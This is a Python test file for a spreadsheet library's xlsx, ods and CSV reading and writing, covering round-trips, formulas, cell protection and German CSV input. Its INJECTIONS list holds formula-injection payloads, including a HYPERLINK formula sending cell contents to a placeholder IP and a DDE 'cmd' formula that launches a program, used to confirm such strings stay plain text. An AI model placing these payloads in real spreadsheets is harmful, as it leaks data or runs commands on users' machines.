@@ -1,0 +1,249 @@
+"""What is written is read back, and other programs read the same."""
+
+import io
+import zipfile
+from decimal import Decimal
+from typing import Any
+
+import openpyxl
+import pytest
+import python_calamine
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.cells import Cell, CellKind, CellStyle, InputRule, Layout, Sheet, Span, Workbook, cell_name, parse_cell_name
+from infra.inspect.errors import InspectionError
+from infra.spreadsheet.child import parse_workbook
+from infra.spreadsheet.formulas import open_formula
+from infra.spreadsheet.ods_writer import write_ods
+from infra.spreadsheet.reading import read_table, read_workbook
+from infra.spreadsheet.wire import decode_workbook
+from infra.spreadsheet.xlsx_writer import write_xlsx
+from tests.killers import number, ods, text, xlsx
+
+WRITERS = {"xlsx": write_xlsx, "ods": write_ods}
+INJECTIONS = [
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"Bieter")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "{=1}",
+    "'=1",
+    "=",
+    "_x0041_",
+    "<b>&amp;</b>",
+    "a  b   c ",
+    " vorn und hinten ",
+    "Zeile 1\nZeile 2\n\nZeile 4",
+    "a\tb\t  c",
+    "\u202eerdrehmu\u0301",
+    "007",
+    "1,5",
+    "WAHR",
+    "x" * 32_000,
+]
+
+
+def one_sheet(cells: dict[tuple[int, int], Cell], **fields: Any) -> Workbook:  # noqa: ANN401 - fields of Sheet
+    return Workbook((Sheet("Blatt Ä", cells, **fields),))
+
+
+@pytest.mark.parametrize("write", WRITERS.values(), ids=list(WRITERS))
+def test_texts_that_look_like_formulas_stay_texts(write: Any) -> None:  # noqa: ANN401 - a writer
+    cells = {(row, 0): text(value) for row, value in enumerate(INJECTIONS)}
+
+    [sheet] = read_workbook(write(one_sheet(cells))).sheets
+
+    assert sheet.cells == cells
+
+
+def test_excel_finds_texts_where_texts_were_written() -> None:
+    cells = {(row, 0): text(value) for row, value in enumerate(INJECTIONS)}
+
+    found = openpyxl.load_workbook(io.BytesIO(write_xlsx(one_sheet(cells)))).active
+
+    for row, value in enumerate(INJECTIONS, start=1):
+        cell = found.cell(row, 1)
+        assert cell.data_type == "s", value
+        assert cell.hyperlink is None
+
+
+printable = st.text(st.characters(exclude_categories=["Cc", "Cs", "Cn", "Co"], include_characters="\n\t"), min_size=1)
+numbers = st.decimals(-(10**11), 10**11, places=4).map(lambda value: Cell(CellKind.NUMBER, value))
+plain_cells = st.one_of(printable.map(text), numbers, st.booleans().map(lambda value: Cell(CellKind.BOOLEAN, value)))
+positions = st.tuples(st.integers(0, 60), st.integers(0, 40))
+
+
+@given(st.dictionaries(positions, plain_cells, min_size=1, max_size=12))
+def test_any_cells_come_back_from_both_formats(cells: dict[tuple[int, int], Cell]) -> None:
+    for write in WRITERS.values():
+        [sheet] = decode_workbook(parse_workbook(write(one_sheet(cells)))).sheets  # as in the child, only faster
+        assert sheet.cells == cells
+
+
+words = st.text("aÄß&<>'\"=+-@;, 0€", min_size=1).filter(lambda value: value == value.strip() and "  " not in value)
+
+
+@given(st.dictionaries(positions, st.one_of(words.map(text), numbers), min_size=1, max_size=12))
+def test_another_reader_finds_the_same_values(cells: dict[tuple[int, int], Cell]) -> None:
+    for write in WRITERS.values():
+        sheet = python_calamine.load_workbook(io.BytesIO(write(one_sheet(cells)))).get_sheet_by_index(0)
+        top, left = sheet.start or (0, 0)
+        values = sheet.to_python(skip_empty_area=True)
+        for (row, column), cell in cells.items():
+            found = values[row - top][column - left]
+            expected = float(cell.value) if isinstance(cell.value, Decimal) else cell.value
+            assert found == expected
+
+
+@pytest.mark.parametrize("write", WRITERS.values(), ids=list(WRITERS))
+def test_formulas_keep_their_values(write: Any) -> None:  # noqa: ANN401 - a writer
+    cells = {
+        (0, 0): number("2"),
+        (0, 1): Cell(CellKind.NUMBER, Decimal("4.5"), "A1*2.25"),
+        (0, 2): Cell(CellKind.TEXT, "x", 'IF(A1="","","x")'),
+        (0, 3): Cell(CellKind.EMPTY, None, "A9"),
+    }
+
+    [sheet] = read_workbook(write(one_sheet(cells))).sheets
+
+    assert {at: cell.value for at, cell in sheet.cells.items()} == {at: cell.value for at, cell in cells.items()}
+    assert [at for at, cell in sheet.cells.items() if cell.formula is not None] == [(0, 1), (0, 2), (0, 3)]
+
+
+@pytest.mark.parametrize("write", WRITERS.values(), ids=list(WRITERS))
+def test_equal_content_gives_equal_bytes(write: Any) -> None:  # noqa: ANN401 - a writer
+    layout = Layout({(0, 0): CellStyle.INPUT_TEXT}, {0: 20}, (InputRule(Span(0, 0, 0, 0), "Hilfe", "Text"),), (1, 0))
+    workbook = one_sheet({(0, 0): text("x")}, layout=layout)
+
+    assert write(workbook) == write(workbook)
+    assert all(info.date_time[0] == 1980 for info in zipfile.ZipFile(io.BytesIO(write(workbook))).infolist())
+
+
+def test_only_input_cells_are_open_in_a_protected_sheet() -> None:
+    styles = {(0, column): style for column, style in enumerate(CellStyle)}
+    rule = InputRule(Span(0, 0, 3, 0), "Punkte", "0 bis 10", minimum=Decimal(0), maximum=Decimal(10))
+    workbook = one_sheet({(0, 0): text("x")}, layout=Layout(styles, rules=(rule,)))
+
+    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(workbook))).active
+
+    assert sheet.protection.sheet
+    assert {style: not sheet.cell(1, at + 1).protection.locked for at, style in enumerate(CellStyle)} == {
+        style: style.is_input for style in CellStyle
+    }
+    [validation] = sheet.data_validations.dataValidation
+    assert (validation.prompt, str(validation.sqref)) == ("0 bis 10", "A1:A4")
+
+
+def test_dates_and_percentages_are_told_from_numbers_as_excel_styles_them() -> None:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    formats = ["DD.MM.YYYY", "hh:mm", "0%", '0.00 "md"', "General", "[Red]0.0", "mmm yy"]
+    for row, code in enumerate(formats, start=1):
+        sheet.cell(row, 1, 0.5).number_format = code
+    target = io.BytesIO()
+    book.save(target)
+
+    [read] = read_workbook(target.getvalue()).sheets
+
+    kinds = [read.cells[row, 0].kind.name for row in range(len(formats))]
+    assert kinds == ["DATE", "DATE", "PERCENT", "NUMBER", "NUMBER", "NUMBER", "DATE"]
+
+
+def test_numbers_come_as_they_were_typed() -> None:
+    stored = {"1.1000000000000001": "1.1", "0.1": "0.1", "214200": "214200", "2.142E5": "214200", "-0.5": "-0.5"}
+    rows = "".join(f"<row><c><v>{value}</v></c></row>" for value in stored)
+
+    [sheet] = read_workbook(xlsx(rows)).sheets
+
+    assert [str(sheet.cells[row, 0].value) for row in range(len(stored))] == list(stored.values())
+
+
+def test_what_is_no_number_is_an_error_cell() -> None:
+    [sheet] = read_workbook(xlsx("<row><c><v>NaN</v></c><c><v>1e999</v></c><c t='e'><v>#REF!</v></c></row>")).sheets
+
+    assert {cell.kind for cell in sheet.cells.values()} == {CellKind.ERROR}
+
+
+def test_merged_and_hidden_parts_of_a_file_saved_by_excel_are_known() -> None:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet["A1"], sheet["B2"], sheet["D4"] = "a", "b", "d"
+    sheet.merge_cells("A1:C1")
+    sheet.row_dimensions[2].hidden = True
+    sheet.column_dimensions["D"].hidden = True
+    book.create_sheet("versteckt").sheet_state = "hidden"
+    target = io.BytesIO()
+    book.save(target)
+
+    first, second = read_workbook(target.getvalue()).sheets
+
+    assert [span.name for span in first.merged] == ["A1:C1"]
+    assert (first.hidden_rows, first.hidden_columns, second.hidden) == (frozenset({1}), frozenset({3}), True)
+
+
+def test_cells_inside_an_array_formula_are_formulas() -> None:
+    rows = '<row><c r="A1"><f t="array" ref="A1:A2">B1:B2</f><v>1</v></c></row><row><c r="A2"><v>2</v></c></row>'
+
+    [sheet] = read_workbook(xlsx(rows)).sheets
+
+    assert [cell.formula is not None for cell in sheet.cells.values()] == [True, True]
+
+
+ODS_ROW = """
+<table:table-column/><table:table-column table:visibility="collapse"/><table:table-row table:visibility="filter">
+<table:table-cell table:number-columns-spanned="2" office:value-type="string">
+<office:annotation><text:p>nicht lesen</text:p></office:annotation>
+<text:p>a<text:s text:c='2'/>b<text:tab/>c</text:p><text:p>zweite</text:p></table:table-cell><table:covered-table-cell/>
+<table:table-cell office:value-type="percentage" office:value="0.45"/>
+<table:table-cell office:value-type="date" office:date-value="2026-05-07"/>
+<table:table-cell office:value-type="boolean" office:boolean-value="true"/>
+<table:table-cell table:number-columns-repeated="2" office:value-type="float" office:value="3"/></table:table-row>
+"""
+
+
+def test_ods_tells_merged_hidden_and_repeated_cells() -> None:
+    styles = '<style:style style:name="ta"><style:table-properties table:display="false"/></style:style>'
+
+    [sheet] = read_workbook(ods(ODS_ROW, styles=styles)).sheets
+
+    assert [(cell.kind.name, cell.value) for cell in sheet.cells.values()] == [
+        ("TEXT", "a  b\tc\nzweite"),
+        ("PERCENT", Decimal("0.45")),
+        ("DATE", "2026-05-07"),
+        ("BOOLEAN", True),
+        ("NUMBER", Decimal(3)),
+        ("NUMBER", Decimal(3)),
+    ]
+    assert [span.name for span in sheet.merged] == ["A1:B1"]
+    assert (sheet.hidden, sheet.hidden_rows) == (True, frozenset({0}))
+
+
+def test_csv_of_a_german_spreadsheet() -> None:
+    data = 'Nr.;Kriterium;Gewicht\r\n1;Größe „x“;12,5\r\n2;"a;b";\r\n'
+    utf8, windows = read_table(b"\xef\xbb\xbf" + data.encode()), read_table(data.encode("cp1252"))
+
+    assert utf8 == windows
+    assert utf8.sheets[0].cells[1, 1] == text("Größe „x“")
+    assert utf8.sheets[0].cells[2, 1] == text("a;b")
+    assert (2, 2) not in utf8.sheets[0].cells
+
+
+@pytest.mark.parametrize("data", [b"a\0b", b'a;"b', b"PK\x03\x04"])
+def test_what_is_no_csv_is_refused(data: bytes) -> None:
+    with pytest.raises(InspectionError):
+        read_table(data)
+
+
+def test_formulas_in_the_notation_of_ods() -> None:
+    formula = """IF(AND('Blatt 1'!$A$1:$B$2="a,b",C3>=1.5),SUM(A1:A3),"'X'!A1")"""
+
+    expected = """of:=IF(AND([$'Blatt 1'.$A$1:.$B$2]="a,b";[.C3]>=1.5);SUM([.A1:.A3]);"'X'!A1")"""
+    assert open_formula(formula) == expected
+
+
+@given(st.integers(0, 1_048_575), st.integers(0, 16_383))
+def test_names_of_cells_lead_back(row: int, column: int) -> None:
+    assert parse_cell_name(cell_name(row, column)) == (row, column)
